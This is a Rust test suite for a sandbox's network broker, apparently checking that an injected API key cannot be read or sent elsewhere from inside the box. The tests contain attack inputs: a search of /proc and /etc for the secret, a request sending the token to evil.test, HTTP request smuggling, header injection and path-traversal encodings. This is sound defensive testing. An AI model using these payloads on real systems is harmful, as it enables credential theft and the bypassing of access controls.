@@ -1,0 +1,573 @@
+//! Getting at a key that the broker adds to requests, or getting it sent elsewhere (THREATS.md, 5).
+#![expect(clippy::unwrap_used, reason = "a test fails by panicking, also in the functions beside it")]
+
+use std::process::Command;
+use std::time::Duration;
+
+use agentd_tests::tls::{Answer, Authority, TlsServer, ok};
+use agentd_tests::{Feature, Home, Ran, Started, require, run, wait_until};
+use serde_json::Value;
+
+const KEY: &str = "sk-of-the-test-0123456789abcdef";
+
+/// Words for the scripts: `ask` sends bytes to api.test and gives the whole answer, or why there is none.
+const ASK: &str = r"
+import socket, ssl, sys, os
+def ask(request, port, host='api.test', wrap=None):
+    try:
+        s = socket.create_connection((host, port), 30)
+        if wrap: s = wrap(s)
+        s.sendall(request)
+        back = b''
+        while part := s.recv(1 << 16): back += part
+        return back.decode('utf-8', 'replace')
+    except OSError as error: return type(error).__name__ + ' ' + str(getattr(error, 'reason', ''))
+def get(port, *lines, path='/', host='api.test', method='GET'):
+    return ask('\r\n'.join([f'{method} {path} HTTP/1.1', f'Host: {host}:{port}', *lines, 'Connection: close', '', '']).encode(), port)
+";
+
+/// A home, a server that is api.test, and the flags of a job that knows its key.
+struct Scene {
+    home: Home,
+    server: TlsServer,
+    flags: Vec<String>,
+}
+
+impl Scene {
+    fn new(answer: Answer) -> Self {
+        Self::with(answer, "api.test")
+    }
+
+    /// The server shows a certificate for `shown`.
+    fn with(answer: Answer, shown: &str) -> Self {
+        let (home, authority) = (Home::new(), Authority::new());
+        let file = home.path().join("config/authority.pem");
+        authority.write(&file);
+        let server = TlsServer::start(&authority, shown, answer);
+        let key = format!("TOKEN@api.test:{}:header:x-api-key", server.port());
+        let flags =
+            ["--secret", &key, "--add-host", "api.test:127.0.0.1", "--upstream-ca", &file.display().to_string()];
+        let flags = flags.map(str::to_owned).to_vec();
+        Self { home, server, flags }
+    }
+
+    /// `agentd run -q`, with the key in agentd's own environment.
+    fn boxed(&self) -> Command {
+        let mut command = self.home.run();
+        command.arg("-q").args(&self.flags).env("TOKEN", KEY);
+        command
+    }
+
+    #[track_caller]
+    fn python(&self, command: &mut Command, script: &str) -> Ran {
+        let script = format!("{ASK}port = {}\n{script}", self.server.port());
+        run(command.args(["--", "/usr/bin/python3", "-c", &script]))
+    }
+
+    /// What the newest job asked for.
+    fn requests(&self) -> Vec<Value> {
+        let id = self.home.jobs()[0]["id"].as_str().unwrap().to_owned();
+        let listed = run(self.home.agentd().args(["logs", "--net", "--format", "json", &id])).expect_success();
+        serde_json::from_str(&listed.stdout).unwrap()
+    }
+
+    #[track_caller]
+    fn assert_told(&self, verdict: &str, words: &[&str]) {
+        let told = self.requests();
+        let told: Vec<&Value> = told.iter().filter(|request| request["verdict"] == verdict).collect();
+        for word in words {
+            assert!(told.iter().any(|request| request.to_string().contains(word)), "nothing of {word:?} in {told:#?}");
+        }
+    }
+}
+
+/// The processes of a job, the supervisor and the broker left out.
+fn in_the_box(supervisor: i32) -> Vec<i32> {
+    let children = |pid: i32| -> Vec<i32> {
+        let tasks = std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
+        tasks.split_whitespace().filter_map(|pid| pid.parse().ok()).collect()
+    };
+    let mut found: Vec<i32> = children(supervisor).into_iter().filter(|pid| comm(*pid) != "agentd-net").collect();
+    let mut at = 0;
+    while let Some(pid) = found.get(at) {
+        found.extend(children(*pid));
+        at += 1;
+    }
+    found
+}
+
+fn comm(pid: i32) -> String {
+    std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default().trim_end().to_owned()
+}
+
+/// The broker of a job, once it is locked.
+fn broker(supervisor: i32) -> i32 {
+    let mut found = None;
+    let is_locked = |pid: i32| {
+        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
+        status.lines().any(|line| line == "Seccomp:\t2")
+    };
+    assert!(wait_until(Duration::from_secs(20), || {
+        let tasks =
+            std::fs::read_to_string(format!("/proc/{supervisor}/task/{supervisor}/children")).unwrap_or_default();
+        let mut pids = tasks.split_whitespace().filter_map(|pid| pid.parse().ok());
+        found = pids.find(|pid| comm(*pid) == "agentd-net" && is_locked(*pid));
+        found.is_some()
+    }));
+    found.unwrap()
+}
+
+/// Whether a process's memory holds the bytes; root may look.
+fn memory_holds(pid: i32, needle: &str) -> bool {
+    use std::os::unix::fs::FileExt;
+    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap();
+    let memory = std::fs::File::open(format!("/proc/{pid}/mem")).unwrap();
+    maps.lines().any(|line| {
+        let mut words = line.split(' ');
+        let (from, to) = words.next().unwrap().split_once('-').unwrap();
+        let (from, to) = (u64::from_str_radix(from, 16).unwrap(), u64::from_str_radix(to, 16).unwrap());
+        if !words.next().unwrap().starts_with('r') || line.contains("[v") || to - from > 1 << 30 {
+            return false;
+        }
+        let mut bytes = vec![0; usize::try_from(to - from).unwrap()];
+        // What cannot be read is not mapped any more.
+        memory.read_exact_at(&mut bytes, from).is_ok()
+            && bytes.windows(needle.len()).any(|window| window == needle.as_bytes())
+    })
+}
+
+#[test]
+fn escape_a_key_is_added_outside_and_is_nowhere_inside() {
+    if !require(Feature::Userns) {
+        return;
+    }
+    let scene = Scene::new(|_| ok("answered\n"));
+    // The pattern is put together inside, so that no command line holds it.
+    let search = format!(
+        "import os, pathlib, socket
+needle = '-'.join(['sk', 'of', 'the', 'test', '{}']).encode()
+def look(path):
+    try: return needle in open(path, 'rb').read(1 << 24)
+    except OSError: return False
+found = []
+for top in '/proc', '/run', '/tmp', '/etc', '/home', '/scratch', '/var/tmp':
+    for directory, inner, files in os.walk(top):
+        inner[:] = [d for d in inner if not d.startswith('task') and d not in ('map_files', 'fd', 'fdinfo')]
+        for name in files:
+            if name not in ('mem', 'kmsg', 'kcore', 'pagemap') and 'self' not in directory and look(f'{{directory}}/{{name}}'):
+                found.append(f'{{directory}}/{{name}}')
+print(found, os.environ.get('TOKEN'))
+",
+        &KEY["sk-of-the-test-".len()..]
+    );
+    let ran = scene.python(&mut scene.boxed(), &format!("print(get(port)[-9:], end='')\n{search}")).expect_success();
+    assert_eq!(ran.stdout, "answered\n[] agentd-adds-the-key-outside\n");
+    let heard = scene.server.heard();
+    assert!(heard.len() == 1 && heard[0].contains(&format!("\r\nx-api-key: {KEY}\r\n")), "{heard:?}");
+    scene.assert_told("allowed", &["\"GET /\"", "--secret TOKEN", "127.0.0.1"]);
+    // The search finds what is there.
+    let mut control = scene.home.run();
+    control.args(["-q", "--secret-file", "TOKEN", "--secret-env", "OTHER=env:TOKEN"]).env("TOKEN", KEY);
+    let ran = scene.python(&mut control, &search).expect_success();
+    assert!(ran.stdout.contains("/run/secrets/TOKEN") && ran.stdout.contains("/environ"), "{ran}");
+}
+
+#[test]
+fn escape_no_process_of_the_box_has_the_key_in_its_memory_and_the_broker_has_nothing_else() {
+    if !require(Feature::Userns) || !require(Feature::Root) {
+        return;
+    }
+    let scene = Scene::new(|_| ok("answered\n"));
+    let (other, of_a_file) = ("a-variable-of-the-host-5555", "the-value-of-another-6666");
+    let start = |flags: &[String]| {
+        let mut command = scene.home.run();
+        command.args(flags).args(["-q", "-i"]).env("TOKEN", KEY).env("UNRELATED", other).env("FILE", of_a_file);
+        command.args(["--", "sh", "-c", "sleep 1000 & read wait; kill $!"]).stdin(std::process::Stdio::piped());
+        Started::new(&mut command)
+    };
+    let flags = [&scene.flags[..], &["--secret-file".to_owned(), "FILE".to_owned()]].concat();
+    let mut started = start(&flags);
+    let supervisor = started.pid();
+    assert!(wait_until(Duration::from_secs(20), || in_the_box(supervisor).iter().any(|pid| comm(*pid) == "sleep")));
+    let inside = in_the_box(supervisor);
+    assert!(inside.len() >= 3, "{inside:?}");
+    for pid in inside {
+        for needle in [KEY, other] {
+            assert!(!memory_holds(pid, needle), "{} has {needle}", comm(pid));
+        }
+    }
+    let net = broker(supervisor);
+    assert!(memory_holds(net, KEY));
+    for needle in [other, of_a_file] {
+        assert!(!memory_holds(net, needle), "the broker has {needle}");
+    }
+    // The supervisor, from which both were cloned, is where the search finds all of them.
+    assert!([KEY, other, of_a_file].iter().all(|needle| memory_holds(supervisor, needle)));
+    drop(started.stdin());
+    let _ran = started.finish().expect_success();
+    // Without keys the broker has nothing of the host's either.
+    let mut started =
+        start(&["--allow".to_owned(), "web.test".to_owned(), "--secret-file".to_owned(), "FILE".to_owned()]);
+    let net = broker(started.pid());
+    assert!([KEY, other, of_a_file].iter().all(|needle| !memory_holds(net, needle)));
+    drop(started.stdin());
+    let _ran = started.finish().expect_success();
+}
+
+/// What a box says about who it is, is not passed on beside the key; what it says about the connection neither.
+#[test]
+fn escape_a_client_cannot_put_its_own_key_beside() {
+    if !require(Feature::Userns) {
+        return;
+    }
+    let scene = Scene::new(|_| ok("answered\n"));
+    let script = "
+print(get(port, 'X-Api-Key: theirs', 'x-api-key: again', 'Authorization: Bearer theirs', 'Cookie: session=theirs',
+    'Proxy-Authorization: Basic dGhlaXJz', 'X-HTTP-Method-Override: DELETE', 'Connection: x-api-key, x-own', 'X-Own: theirs',
+    'X-Trace: kept')[-9:], end='')";
+    let ran = scene.python(&mut scene.boxed(), script).expect_success();
+    assert_eq!(ran.stdout, "answered\n");
+    let heard = scene.server.heard().join("");
+    assert!(heard.contains(&format!("x-api-key: {KEY}\r\n")) && heard.contains("x-trace: kept\r\n"), "{heard}");
+    assert!(
+        !heard.contains("theirs") && !heard.contains("again") && !heard.to_lowercase().contains("override"),
+        "{heard}"
+    );
+    assert_eq!(heard.matches("x-api-key").count(), 1, "{heard}");
+}
+
+/// A redirect is the client's to follow, and the key does not go where it leads.
+#[test]
+fn escape_a_redirect_does_not_take_the_key_along() {
+    if !require(Feature::Userns) {
+        return;
+    }
+    let scene = Scene::new(|_| {
+        b"HTTP/1.1 307 Temporary Redirect\r\nLocation: http://evil.test:8080/\r\nContent-Length: 0\r\n\r\n".to_vec()
+    });
+    let other = agentd_tests::server::Server::at("127.0.0.1", agentd_tests::server::OK);
+    let script = format!(
+        "
+first = get(port)
+print('Location: http://evil.test' in first or 'location: http://evil.test' in first)
+print(ask(b'GET / HTTP/1.1\\r\\nHost: evil.test:{0}\\r\\nX-Api-Key: ' + os.environ['TOKEN'].encode() + b'\\r\\n\\r\\n', {0}, 'evil.test')[:15])",
+        other.port()
+    );
+    let mut command = scene.boxed();
+    command.args(["--allow", &format!("evil.test:{}", other.port()), "--add-host", "evil.test:127.0.0.1"]);
+    let ran = scene.python(&mut command, &script).expect_success();
+    assert_eq!(ran.stdout, "True\nHTTP/1.1 200 OK\n");
+    assert_eq!(scene.server.heard().len(), 1);
+    let heard = other.heard();
+    assert!(heard.contains("evil.test") && !heard.contains(KEY), "{heard}");
+}
+
+/// A request for another host, however it is written, is refused: the key would be in it.
+#[test]
+fn escape_a_request_names_the_host_of_the_key_and_no_other() {
+    if !require(Feature::Userns) {
+        return;
+    }
+    let scene = Scene::new(|_| ok("answered\n"));
+    let script = r"
+h = f'Host: api.test:{port}\r\n'.encode()
+end = b'Connection: close\r\n\r\n'
+for request in (
+    b'GET / HTTP/1.1\r\nHost: evil.test\r\n' + end,
+    b'GET http://evil.test/ HTTP/1.1\r\n' + h + end,
+    b'GET https://evil.test/ HTTP/1.1\r\n' + h + end,
+    b'GET http://api.test@evil.test/ HTTP/1.1\r\n' + h + end,
+    b'GET / HTTP/1.1\r\n' + h + b'Host: evil.test\r\n' + end,
+    b'GET / HTTP/1.1\r\nHost: api.test:1\r\n' + end,
+    b'GET / HTTP/1.1\r\n' + end,
+    b'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n',
+    b'GET /chat HTTP/1.1\r\n' + h + b'Upgrade: websocket\r\nConnection: Upgrade\r\n\r\n',
+): print(ask(request, port).split('\r\n')[0])
+for request in (
+    b'GET / HTTP/1.1\r\nHost: api.test\r\n X-Folded: evil.test\r\n' + end,
+    b'GET / HTTP/1.1\r\n' + h + b'X: y\0z\r\n' + end,
+    b'GET / HTTP/1.1\r\n' + h + b'X : y\r\n' + end,
+    b'GET / HTTP/1.1\r\n' + h + b'X: y\rInjected: yes\r\n' + end,
+    b'GET / HTTP/1.1\r\n' + h + b'X: ' + b'x' * 100000 + b'\r\n' + end,
+    b'GET / HTTP/1.1\r\n' + h + b''.join(b'X%d: y\r\n' % n for n in range(200)) + end,
+    b'GET /' + b'x' * 100000 + b' HTTP/1.1\r\n' + h + end,
+    b'GET / HTTP/1.1\r\n' + h + b'Transfer-Encoding: gzip\r\n' + end,
+    b'GET / HTTP/1.1\r\n' + h + b'Content-Length: 3\r\nContent-Length: 4\r\n\r\nabc',
+    b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
+    b'EHLO evil.test\r\n\r\n',
+): print(ask(request, port)[:12])
+";
+    let ran = scene.python(&mut scene.boxed(), script).expect_success();
+    let lines: Vec<&str> = ran.stdout.lines().collect();
+    assert!(lines[..9].iter().all(|line| *line == "HTTP/1.1 403 Forbidden"), "{ran}");
+    // What speaks another language is hung up on.
+    let refused = |line: &&str| line.starts_with("HTTP/1.1 4") || line.is_empty();
+    assert!(lines.len() == 20 && lines[9..].iter().all(refused), "{ran}");
+    assert_eq!(scene.server.heard(), Vec::<String>::new());
+    scene.assert_told(
+        "refused",
+        &[
+            "asks for evil.test",
+            "names no host, or more than one",
+            "asks for api.test:1",
+            "(CONNECT)",
+            "websocket",
+            "malformed",
+        ],
+    );
+    // Without the broker's words the same server takes them.
+    let port = scene.server.port();
+    let control = run(Command::new("curl").args(["-sk", "--resolve", &format!("api.test:{port}:127.0.0.1")]).args([
+        "-H",
+        "Host: evil.test",
+        &format!("https://api.test:{port}/"),
+    ]));
+    assert_eq!(control.expect_success().stdout, "answered\n");
+}
+
+/// Two lengths: what the server hears has one, and ends where the broker has read that it ends.
+#[test]
+fn escape_a_request_within_a_request_is_no_request() {
+    if !require(Feature::Userns) {
+        return;
+    }
+    let scene = Scene::new(|_| ok("answered\n"));
+    let script = r"
+smuggled = f'GET /smuggled HTTP/1.1\r\nHost: api.test:{port}\r\nX: '
+head = f'POST /one HTTP/1.1\r\nHost: api.test:{port}\r\n'
+for lengths, body in (
+    ('Content-Length: 6\r\nTransfer-Encoding: chunked\r\n', '0\r\n\r\nG'),
+    ('Transfer-Encoding: chunked\r\nContent-Length: 6\r\n', '0\r\n\r\n'),
+    ('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n', '0\r\n\r\n' + smuggled),
+    ('Transfer-Encoding: xchunked\r\n', '0\r\n\r\n' + smuggled),
+    ('Transfer-Encoding: chunked\r\n', '5;' + 'x' * 100000 + '\r\n'),
+    ('Content-Length: +6\r\n', 'abcdef'),
+): ask((head + lengths + 'Connection: close\r\n\r\n' + body).encode(), port)
+print('asked')
+";
+    let ran = scene.python(&mut scene.boxed(), script).expect_success();
+    assert_eq!(ran.stdout, "asked\n");
+    for heard in scene.server.heard() {
+        assert!(heard.starts_with("POST /one HTTP/1.1\r\nhost: api.test") && !heard.contains("smuggled"), "{heard}");
+        let head = heard.to_lowercase();
+        let lengths = head.matches("\r\ncontent-length:").count() + head.matches("\r\ntransfer-encoding:").count();
+        assert_eq!(lengths, 1, "{heard}");
+    }
+}
+
+#[test]
+fn escape_a_server_that_cannot_show_its_name_gets_no_key() {
+    if !require(Feature::Userns) {
+        return;
+    }
+    let scene = Scene::with(|_| ok("answered\n"), "evil.test");
+    let ran = scene.python(&mut scene.boxed(), "print(get(port))").expect_success();
+    assert!(ran.stdout.starts_with("HTTP/1.1 403 Forbidden") && ran.stdout.contains("do not retry"), "{ran}");
+    assert_eq!(scene.server.heard(), Vec::<String>::new());
+    scene.assert_told("refused", &["cannot show that it is api.test"]);
+    // Nor does one whose authority nobody knows.
+    let scene = Scene::new(|_| ok("answered\n"));
+    let other = scene.home.path().join("config/other.pem");
+    Authority::new().write(&other);
+    let mut command = scene.home.run();
+    command.arg("-q").args(&scene.flags[..4]).arg("--upstream-ca").arg(&other).env("TOKEN", KEY);
+    let ran = scene.python(&mut command, "print(get(port))").expect_success();
+    assert!(ran.stdout.starts_with("HTTP/1.1 403 Forbidden"), "{ran}");
+    assert_eq!(scene.server.heard(), Vec::<String>::new());
+    // The same server is believed where its authority is.
+    assert!(scene.python(&mut scene.boxed(), "print(get(port))").expect_success().stdout.contains("answered"));
+}
+
+/// TLS from the box hides requests: the rule that a key implies does not let it pass.
+#[test]
+fn escape_a_key_opens_no_way_past_the_broker() {
+    if !require(Feature::Userns) {
+        return;
+    }
+    let scene = Scene::new(|_| ok("answered\n"));
+    let script = "
+context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
+wrap = lambda s: context.wrap_socket(s, server_hostname='api.test')
+print(ask(f'GET / HTTP/1.1\\r\\nHost: api.test:{port}\\r\\nX-Api-Key: theirs\\r\\nConnection: close\\r\\n\\r\\n'.encode(), port, wrap=wrap)[-40:])";
+    let ran = scene.python(&mut scene.boxed(), script).expect_success();
+    assert!(ran.stdout.contains("TLSV1_ALERT_ACCESS_DENIED"), "{ran}");
+    assert_eq!(scene.server.heard(), Vec::<String>::new());
+    scene.assert_told("refused", &["--tls-terminate"]);
+    // A rule of the user's own does, and no key is added.
+    let mut command = scene.boxed();
+    command.args(["--allow", &format!("api.test:{}", scene.server.port())]);
+    let ran = scene.python(&mut command, script).expect_success();
+    let heard = scene.server.heard().join("");
+    assert!(ran.stdout.contains("answered") && heard.contains("theirs") && !heard.contains(KEY), "{ran}\n{heard}");
+}
+
+/// What a server echoes, the box can read; what agentd keeps does not have it.
+#[test]
+fn escape_an_echo_is_in_no_log_of_agentds() {
+    if !require(Feature::Userns) {
+        return;
+    }
+    let scene = Scene::new(ok);
+    let script = "print(get(port, path='/' + os.environ['TOKEN']))";
+    let ran = scene.python(&mut scene.boxed(), script).expect_success();
+    assert!(ran.stdout.contains(KEY), "{ran}");
+    for path in scene.home.paths().into_iter().filter(|path| path.starts_with("state")) {
+        let kept = std::fs::read(scene.home.path().join(&path)).unwrap_or_default();
+        assert!(!kept.windows(KEY.len()).any(|window| window == KEY.as_bytes()), "{}", path.display());
+    }
+}
+
+/// Answers come as they are sent, requests follow each other on one connection, and a body waits for its 100-continue.
+#[test]
+fn cli_secret_streams_and_keeps_the_connection() {
+    if !require(Feature::Userns) {
+        return;
+    }
+    let scene = Scene::new(|request| {
+        if request.starts_with("GET /stream") {
+            return b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nfirst\r\n".to_vec();
+        }
+        ok(&format!("{} bytes\n", request.len() - request.find("\r\n\r\n").unwrap() - 4))
+    });
+    let script = r"
+import http.client, time
+c = http.client.HTTPConnection('api.test', port)
+for size in (10, 0, 100000):
+    c.request('POST', '/', body=b'x' * size); r = c.getresponse(); print(r.status, r.read().decode(), end='')
+s = socket.create_connection(('api.test', port))
+s.sendall(f'POST / HTTP/1.1\r\nHost: api.test:{port}\r\nExpect: 100-continue\r\nContent-Length: 3\r\nConnection: close\r\n\r\n'.encode())
+print(s.recv(25)); s.sendall(b'abc'); print(s.makefile().read().split()[-2:])
+s = socket.create_connection(('api.test', port)); s.settimeout(30)
+s.sendall(f'GET /stream HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n'.encode())
+back = b''
+while b'first' not in back: back += s.recv(4096)
+print('streamed')
+";
+    let ran = scene.python(&mut scene.boxed(), script).expect_success();
+    let expected =
+        "200 10 bytes\n200 0 bytes\n200 100000 bytes\nb'HTTP/1.1 100 Continue\\r\\n\\r\\n'\n['3', 'bytes']\nstreamed\n";
+    assert_eq!(ran.stdout, expected);
+}
+
+#[test]
+fn cli_secret_that_cannot_be_added_ends_the_start() {
+    let home = Home::new();
+    let not_pem = home.path().join("config/none.pem");
+    std::fs::write(&not_pem, "nothing\n").unwrap();
+    let not_pem = not_pem.display().to_string();
+    for (flags, words) in [
+        (&["--secret", "TOKEN@a.test", "--net", "host"][..], "--secret-file"),
+        (&["--secret", "GH_TOKEN=env:TOKEN", "--secret", "GITHUB_TOKEN=env:TOKEN"], "the same header"),
+        (&["--secret", "T@a.test=cmd:printf 'a b'"], "on one line"),
+        (&["--tls-terminate"], "--secret NAME@HOST"),
+        (&["--secret", "TOKEN@a.test", "--upstream-ca", &not_pem], "no certificate authorities"),
+        (&["--add-host", "a.test:127.0.0.1"], "give --allow, too"),
+        (&["--secret", "TOKEN@a.test:53"], "port 53"),
+    ] {
+        let mut command = home.run();
+        command.env("TOKEN", KEY).arg("-q").args(flags).args(["--", "true"]);
+        let ran = run(&mut command).expect_code(125);
+        ran.expect_one_error_line(&[words]);
+    }
+    for (flags, words) in [
+        (["--secret", "TOKEN@*.a.test"], "no host that a key can be for"),
+        (["--secret", "TOKEN@a.test:header:Host"], "about the request itself"),
+        (["--allow", "GET http://a.test/"], "is for https://"),
+        (["--allow", "GET https://a.test/../x"], "climbs with dots"),
+    ] {
+        let ran = run(home.run().env("TOKEN", KEY).args(flags).args(["--", "true"])).expect_code(125);
+        assert!(ran.stderr.contains(words), "{ran}");
+    }
+    assert!(home.jobs().is_empty());
+}
+
+/// Rules for requests, over TLS that ends at the broker and in the plain.
+#[test]
+fn escape_a_rule_for_paths_is_kept_however_a_path_is_written() {
+    if !require(Feature::Userns) {
+        return;
+    }
+    let scene = Scene::new(|_| ok("answered\n"));
+    let at = format!("https://api.test:{}", scene.server.port());
+    let mut flags = scene.flags.clone();
+    flags.extend([
+        "--allow".into(),
+        format!("GET,POST {at}/repos/me/*"),
+        "--deny".into(),
+        format!("POST {at}/repos/me/keys"),
+    ]);
+    let script = r"
+context = ssl.create_default_context()
+wrap = lambda s: context.wrap_socket(s, server_hostname='api.test')
+def both(method, path):
+    request = f'{method} {path} HTTP/1.1\r\nHost: api.test:{port}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n'.encode()
+    plain, tls = ask(request, port), ask(request, port, wrap=wrap)
+    return plain.split('\r\n')[0][9:12], tls.split('\r\n')[0][9:12]
+for method, path in (('GET', '/repos/me/x?y=../z'), ('POST', '/repos/me/x'), ('GET', '/repos/m%65/x')):
+    print(both(method, path) == ('200', '200'), method, path)
+for method, path in (('DELETE', '/repos/me/x'), ('GET', '/'), ('GET', '/repos/you/x'), ('POST', '/repos/me/keys'),
+    ('POST', '/repos/me/k%65ys'), ('GET', '/repos/me/../you'), ('GET', '/repos/me/%2e%2e/you'), ('GET', '/repos/me/..%2fyou'),
+    ('GET', '/repos/me//..//you'), ('GET', '/repos/me/%252e%252e/you'), ('GET', '/repos/me/..;/you'), ('GET', '/repos/me/..\\you'),
+    ('GET', '/repos/me/%c0%ae%c0%ae/you')):
+    print(both(method, path) == ('403', '403'), method, path)
+";
+    let mut command = scene.home.run();
+    command.arg("-q").args(&flags).env("TOKEN", KEY);
+    let ran = scene.python(&mut command, script).expect_success();
+    assert!(ran.stdout.lines().count() == 16 && ran.stdout.lines().all(|line| line.starts_with("True ")), "{ran}");
+    let heard = scene.server.heard();
+    assert_eq!(heard.len(), 6);
+    assert!(heard.iter().all(|request| request.contains(KEY) && request.contains("/repos/m")), "{heard:?}");
+    scene.assert_told(
+        "refused",
+        &[
+            "no rule allows this request",
+            "--deny 'POST",
+            "climbs with dots",
+            "encoded slash",
+            "empty segment",
+            "encoded twice",
+            "DELETE /repos/me/x",
+        ],
+    );
+    scene.assert_told("allowed", &["\"GET /repos/me/x\""]);
+    // Without such rules the same requests reach the server.
+    let ran = scene.python(&mut scene.boxed(), "print(get(port, path='/repos/me/../you')[-9:])").expect_success();
+    assert!(ran.stdout.contains("answered"), "{ran}");
+}
+
+/// TLS that ends at the broker: for the names of the job's keys, and within it for no other host.
+#[test]
+fn escape_a_host_within_terminated_tls_is_the_one_outside() {
+    if !require(Feature::Userns) {
+        return;
+    }
+    let scene = Scene::new(|_| ok("answered\n"));
+    let script = r"
+context = ssl.create_default_context()
+wrap = lambda s: context.wrap_socket(s, server_hostname='api.test')
+end = b'Connection: close\r\n\r\n'
+for request in (b'GET / HTTP/1.1\r\nHost: evil.test\r\n' + end, b'GET https://evil.test/ HTTP/1.1\r\nHost: api.test\r\n' + end):
+    print(ask(request, port, wrap=wrap).split('\r\n')[0])
+unchecked = ssl.create_default_context(); unchecked.check_hostname = False; unchecked.verify_mode = ssl.CERT_NONE
+for name in ('evil.test', None):
+    print(ask(b'x', port, wrap=lambda s: unchecked.wrap_socket(s, server_hostname=name)))
+print(ask(f'GET / HTTP/1.1\r\nHost: api.test:{port}\r\n'.encode() + end, port, wrap=wrap)[-9:], end='')
+import subprocess
+print(subprocess.run(['curl', '-sS', f'https://api.test:{port}/'], capture_output=True, text=True).stdout, end='')
+print(sorted(os.listdir('/run/agentd/trust')), 'PRIVATE' in ''.join(open(f'/run/agentd/trust/{n}').read() for n in os.listdir('/run/agentd/trust')))
+";
+    let mut command = scene.boxed();
+    command.arg("--tls-terminate");
+    let ran = scene.python(&mut command, script).expect_success();
+    let lines: Vec<&str> = ran.stdout.lines().collect();
+    assert!(lines[..2].iter().all(|line| *line == "HTTP/1.1 403 Forbidden"), "{ran}");
+    assert!(lines[2..4].iter().all(|line| !line.contains("answered") && line.contains("Error")), "{ran}");
+    assert_eq!(lines[4..], ["answered", "answered", "['authority.pem', 'bundle.pem'] False"], "{ran}");
+    let heard = scene.server.heard();
+    assert!(heard.len() == 2 && heard.iter().all(|request| request.contains(KEY)), "{heard:?}");
+    scene.assert_told("refused", &["asks for evil.test", "its TLS hello asks for"]);
+    // Without it the same client does not believe the broker, which does not speak to it.
+    let ran = scene.python(&mut scene.boxed(), "print(ask(b'x', port, wrap=ssl.create_default_context().wrap_socket))");
+    assert!(!ran.stdout.contains("answered"), "{ran}");
+}
